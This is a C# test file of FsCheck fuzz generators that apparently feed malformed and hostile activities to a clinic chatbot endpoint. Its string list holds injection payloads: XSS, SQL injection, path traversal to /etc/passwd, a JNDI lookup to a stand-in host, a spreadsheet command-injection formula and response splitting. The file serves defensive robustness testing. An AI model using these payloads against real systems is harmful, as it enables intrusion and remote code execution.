using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;

namespace Bot.Tests.Fuzz;

/// <summary>
/// FsCheck generators for what an attacker or a broken client sends: activities with fields missing, swapped for
/// other types or hostile strings, extra nesting, and raw bodies that are not JSON or not UTF-8 at all.
/// </summary>
public static class HostileValues
{
    private static readonly string[] Nasty =
    [
        "", " ", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR 1=1 --", "\0", "\uD800", "\uDFFF\uD800",
        "../../../etc/passwd", "%00%2e%2e%2f", "${jndi:ldap://x.example/a}", "{{7*7}}", "\u202Eevil\u202C", "😀👩‍👩‍👧‍👦",
        "\r\n\r\nHTTP/1.1 200 OK", "=cmd|' /C calc'!A0", "+1 (888) 803-3375", "i want to die", "book me in", "999999999999999999999999",
        "-0", "NaN", "null", "true", "[]", "{}", "\t\v\f", "ｆｕｌｌｗｉｄｔｈ", "a\u0301\u0301\u0301\u0301", "%s%s%s%n",
    ];

    public static Gen<string> Text { get; } = Gen.OneOf(
        Gen.Elements(Nasty),
        ArbMap.Default.GeneratorFor<string>().Select(s => s ?? ""),
        Gen.Choose(0, 7000).Select(n => new string('a', n)),
        Gen.Choose(0, 800).Select(n => string.Concat(Enumerable.Repeat("😀 ", n))),
        Gen.Elements(Nasty).ArrayOf().Select(parts => string.Join(" ", parts)));

    private static Gen<JsonNode?> Scalar { get; } = Gen.OneOf(
        Gen.Constant<JsonNode?>(null),
        ArbMap.Default.GeneratorFor<bool>().Select(b => (JsonNode?)JsonValue.Create(b)),
        ArbMap.Default.GeneratorFor<long>().Select(n => (JsonNode?)JsonValue.Create(n)),
        Gen.Elements(double.MaxValue, double.Epsilon, -1e308, 0.1).Select(d => (JsonNode?)JsonValue.Create(d)),
        Text.Select(s => (JsonNode?)JsonValue.Create(s)));

    public static Gen<JsonNode?> Value(int depth) => depth <= 0
        ? Scalar
        : Gen.Frequency(
            (4, Scalar),
            (1, Value(depth - 1).ListOf().Select(items => (JsonNode?)new JsonArray(items.Select(i => i?.DeepClone()).ToArray()))),
            (1, Gen.Zip(Text, Value(depth - 1)).ListOf().Select(pairs => (JsonNode?)Object(pairs))));

    /// <summary>A field as a client should send it, or missing, or hostile.</summary>
    private static Gen<(string Name, JsonNode? Value, bool Present)> Field(string name, Gen<JsonNode?> valid) =>
        Gen.Frequency(
            (6, valid.Select(v => (name, v, true))),
            (2, Value(2).Select(v => (name, v, true))),
            (1, Gen.Constant((name, (JsonNode?)null, false))));

    private static Gen<JsonNode?> Account(string id) => Text.Select(name => (JsonNode?)new JsonObject { ["id"] = id, ["name"] = name });

    /// <summary>An activity in one of <paramref name="conversationIds"/> (so state builds up across cases), fields mixed up.</summary>
    public static Gen<JsonObject> Activity(string[] conversationIds)
    {
        var fields = new[]
        {
            Field("type", Gen.Elements("message", "message", "conversationUpdate", "event", "invoke", "typing", "endOfConversation", "messageReaction")
                .Select(t => (JsonNode?)JsonValue.Create(t))),
            Field("text", Text.Select(t => (JsonNode?)JsonValue.Create(t))),
            Field("conversation", Gen.Elements(conversationIds).Select(id => (JsonNode?)new JsonObject { ["id"] = id })),
            Field("from", Account("visitor")),
            Field("recipient", Account("clinic-bot")),
            Field("channelId", Gen.Elements("test", "webchat", "msteams", "").Select(c => (JsonNode?)JsonValue.Create(c))),
            Field("id", Text.Select(t => (JsonNode?)JsonValue.Create(t))),
            Field("deliveryMode", Gen.Constant((JsonNode?)JsonValue.Create("expectReplies"))),
            Field("value", Value(3)),
            Field("channelData", Value(3)),
            Field("attachments", Value(2).ListOf().Select(a => (JsonNode?)new JsonArray(a.Select(x => x?.DeepClone()).ToArray()))),
            Field("entities", Value(2).ListOf().Select(a => (JsonNode?)new JsonArray(a.Select(x => x?.DeepClone()).ToArray()))),
            Field("locale", Gen.Elements("en-US", "es", "xx-INVALID-999", "").Select(l => (JsonNode?)JsonValue.Create(l))),
            Field("timestamp", Gen.Elements("2026-12-02T10:00:00Z", "not a time", "9999-99-99").Select(t => (JsonNode?)JsonValue.Create(t))),
        };
        return Gen.Zip(Gen.CollectToArray(fields), Gen.Zip(Text, Value(2)).ListOf()).Select(parts =>
        {
            var activity = new JsonObject();
            foreach (var field in parts.Item1.Where(f => f.Present))
            {
                activity[field.Name] = field.Value?.DeepClone();
            }
            foreach (var (name, value) in parts.Item2.Where(p => !activity.ContainsKey(p.Item1)))
            {
                activity[name] = value?.DeepClone();
            }
            // Expected replies keep the fuzz away from the allow-listed outbound path and make every turn answer in the response.
            activity["deliveryMode"] = "expectReplies";
            return activity;
        });
    }

    /// <summary>The activity's bytes, sometimes cut short, corrupted, or not UTF-8.</summary>
    public static Gen<byte[]> Body(Gen<JsonObject> activities) =>
        Gen.Zip(activities, Gen.Zip(Gen.Choose(0, 9), Gen.Choose(0, int.MaxValue))).Select(t =>
        {
            var (activity, (mutation, position)) = t;
            var bytes = Encoding.UTF8.GetBytes(activity.ToJsonString());
            var at = position % Math.Max(1, bytes.Length);
            return mutation switch
            {
                0 => bytes[..at],
                1 => [.. bytes[..at], 0xFF, 0xC0, 0x80, .. bytes[at..]],
                2 => [.. bytes[..at], (byte)'"', .. bytes[at..]],
                3 => Encoding.UTF8.GetBytes("[" + activity.ToJsonString() + "]"),
                4 => Encoding.UTF8.GetBytes(new string('[', 5000) + new string(']', 5000)),
                _ => bytes,
            };
        });

    private static JsonObject Object(IEnumerable<(string, JsonNode?)> pairs)
    {
        var obj = new JsonObject();
        foreach (var (key, value) in pairs)
        {
            obj[key] = value?.DeepClone();
        }
        return obj;
    }
}
